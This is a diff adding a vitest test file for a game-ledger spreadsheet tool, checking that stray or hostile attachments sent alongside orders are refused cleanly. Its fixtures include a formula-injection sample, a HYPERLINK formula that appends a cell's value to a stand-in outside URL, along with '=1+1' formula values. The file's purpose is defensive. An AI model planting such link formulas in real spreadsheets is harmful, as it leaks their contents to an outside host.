@@ -1,0 +1,110 @@
+import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { afterAll, beforeAll, expect, test } from "vitest";
+import type { Book } from "../../src/workbook/book";
+import { edit } from "../../src/workbook/xlsx/edit";
+import { readBook } from "../../src/workbook/xlsx/read";
+import { build, ledger } from "./program";
+
+/*
+ * What a game master gets sent beside orders: each is told in a sentence, nothing of it is written, and the orders go in.
+ */
+
+let folder = "";
+const at = (name: string): string => path.join(folder, name);
+const run = (...args: string[]) => ledger(args, "", {}, folder);
+const bytesOf = (name: string) => new Uint8Array(readFileSync(at(name)));
+
+beforeAll(() => {
+  build();
+  folder = mkdtempSync(path.join(tmpdir(), "ledger-"));
+  for (const [name, args] of [
+    ["ledger.xlsx", ["gas", "--players", "Germany,Italy"]],
+    ["other.xlsx", ["setup"]],
+  ] as const)
+    expect(run("new", ...args, "-o", name).code).toBe(0);
+  copyFileSync(at("ledger.xlsx"), at("begun.xlsx"));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** The ledger as a later program would have made it. */
+function ofLaterVersion(): Uint8Array {
+  const bytes = bytesOf("ledger.xlsx");
+  const book = readBook(bytes);
+  const { sheet, row, column } = book.names.find(({ name }) => name.endsWith("_Version"))!;
+  return edit(bytes, [{ kind: "cells", sheet, cells: [{ row, column, value: 99 }] }]);
+}
+
+/** The column that says who plays, in its table. */
+const playedBy = ({ tables }: Book) =>
+  tables
+    .flatMap((table) => table.headers.map((header, i) => ({ table, header, column: table.left + i })))
+    .find(({ header }) => header === "Played by")!;
+
+/** What somebody else's formula in a cell would do. */
+function withFormula(): Uint8Array {
+  const bytes = bytesOf("ledger.xlsx");
+  const { table, column } = playedBy(readBook(bytes));
+  const cell = { row: table.top + 2, column, formula: '=HYPERLINK("https://example.org/?"&A1,"look")' };
+  return edit(bytes, [{ kind: "cells", sheet: table.sheet, cells: [cell] }]);
+}
+
+const HEAD = "Germany · turn 1 · gas";
+const LIST = "Major powers in play (Campaign)";
+const NOBODY = /Nothing says whose orders these are\. Begin with a line such as: Germany · /;
+
+const SENT: readonly (readonly [name: string, content: string | (() => Uint8Array), says: RegExp])[] = [
+  ["date.ics", "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Turn 1\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n", NOBODY],
+  ["list.csv", "Power;Gas\nGermany;3\nItaly;2\n", NOBODY],
+  ["card.vcf", "BEGIN:VCARD\nFN:Karl\nEND:VCARD\n", NOBODY],
+  ["data.json", '{"player":"Germany","orders":[]}', NOBODY],
+  ["mail.html", `<!DOCTYPE html><html><body><p>${HEAD}<br>${LIST}</p></body></html>`, /It is a web page: open it, copy what/],
+  ["mail.rtf", `{\\rtf1\\ansi ${HEAD}\\par}`, /It is a word processor's document: open it/],
+  [
+    "mail.eml",
+    `From: karl@example.org\nContent-Transfer-Encoding: base64\n\n${Buffer.from(HEAD).toString("base64")}\n`,
+    /It is a mail as mail programs send it: open it/,
+  ],
+  ["block.txt", `${Buffer.from(HEAD.repeat(400)).toString("base64").replace(/.{76}/g, "$&\n")}\n`, NOBODY],
+  ["program.txt", "MZ\u0090\u0000\u0003\u0000", /Line 1 holds signs that no text has: these are no orders\./],
+  ["bell.txt", `${HEAD}\n${LIST}\n  Germany: Played by = a\u0007b\n`, /Line 3 holds signs that no text has/],
+  ["long.txt", "a".repeat(10_000_000), /It has 10,000,000 letters; orders have 1,000,000 at most\./],
+  ["many.txt", "Germany\n".repeat(20_000), /It has 20,001 lines; orders have 10,000 at most\./],
+  ["empty.txt", "", NOBODY],
+  ["formula.txt", `${HEAD}\n${LIST}\n  Germany: Played by = (formula "=1+1")\n`, /is ordered as a formula; orders hold values\./],
+  ["formula.xlsx", withFormula, /is ordered as a formula; orders hold values\.|0 entries taken in/],
+  ["later.xlsx", ofLaterVersion, /version 99/],
+  ["other.xlsx", () => bytesOf("other.xlsx"), /It is a ledger of .*; this one is of /],
+  ["cut.xlsx", () => bytesOf("ledger.xlsx").slice(0, 5000), /damaged|end is missing/],
+  ["old.xlsx", () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0]), /old|encrypted|password/i],
+  ["zip.xlsx", () => Uint8Array.from([0x50, 0x4b, 5, 6, ...Array<number>(18).fill(0)]), /zip\.xlsx/],
+];
+
+test("whatever is sent beside orders is told in a sentence, and the orders go in", () => {
+  for (const [name, content] of SENT) writeFileSync(at(name), typeof content === "string" ? content : content());
+  writeFileSync(at("good.txt"), `${HEAD}\n${LIST}\n  Germany: Played by = "=1+1"\n`);
+  const names = SENT.map(([name]) => name);
+  const tried = run("take-in", "ledger.xlsx", ...names, "--player", "Germany");
+  expect(tried.code).toBe(1);
+  const lines = `${tried.out}\n${tried.err}`.split("\n");
+  const untold = SENT.flatMap(([name, , says]) => {
+    const from = lines.findIndex((line) => line.includes(name));
+    const told = lines.slice(Math.max(0, from), from + 4).join("\n");
+    return from >= 0 && says.test(told) ? [] : [[name, told]];
+  });
+  expect(untold).toEqual([]);
+  expect(lines.filter((line) => line.length > 400)).toEqual([]);
+  expect(lines.filter((line) => /\bat \S+ \(|Error:|undefined|\[object/.test(line))).toEqual([]);
+  expect(tried.out).toContain("ledger.xlsx: nothing was written.");
+  expect(bytesOf("ledger.xlsx")).toEqual(bytesOf("begun.xlsx"));
+
+  // What begins as a formula does is a text where an order holds it.
+  const taken = run("take-in", "ledger.xlsx", ...names.slice(0, 4), "good.txt", ...names.slice(4), "--player", "Germany");
+  expect(taken.out).toContain("Germany, from good.txt");
+  const book = readBook(bytesOf("ledger.xlsx"));
+  const { table, column } = playedBy(book);
+  const sheet = book.sheets.find(({ name }) => name === table.sheet)!;
+  const [row, place] = [table.top + 1 - sheet.top, column - sheet.left];
+  expect([sheet.values[row]![place], sheet.formulas[row]?.[place] ?? null]).toEqual(["=1+1", null]);
+});
